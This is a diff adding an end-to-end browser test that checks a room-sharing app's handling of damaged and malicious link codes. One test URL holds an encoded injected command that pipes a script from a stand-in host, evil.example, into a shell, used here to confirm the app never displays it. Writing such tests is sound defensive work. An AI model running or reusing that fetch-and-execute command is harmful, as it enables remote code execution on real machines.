@@ -35,6 +35,25 @@ it("says so when a code names no room, and when it cannot be a code at all", asy
   await page.getByRole("button", { name: "Create room" }).waitFor();
 });
 
+it("shows an error page for a damaged link, and never shows a code that is not one", async () => {
+  const browser = await env.launch();
+  const page = await openPage(browser.context, `${env.secureOrigin}/#/%E0%A4%A`);
+  const uncaught: Error[] = [];
+  page.on("pageerror", (error) => uncaught.push(error));
+  await page.reload();
+  const error = page.locator(".error-card[data-error=bad-code]");
+  await error.waitFor();
+  expect(await error.textContent()).toContain("This link does not hold a room code");
+  expect(uncaught).toEqual([]);
+
+  await page.goto(`${env.secureOrigin}/#/x%3B%20curl%20http%3A%2F%2Fevil.example%7Csh`);
+  await page.locator(".error-card[data-error=bad-code]").waitFor();
+  expect(await page.locator("body").textContent()).not.toContain("curl");
+  expect(await page.title()).not.toContain("curl");
+  await page.getByRole("link", { name: "Create a new room" }).click();
+  await page.getByRole("button", { name: "Create room" }).waitFor();
+});
+
 it("asks for the password of a protected room, refuses a wrong one, and works on a plain-http LAN origin", async () => {
   const dir = await useTempDir();
   const source = join(dir, "secret.bin");
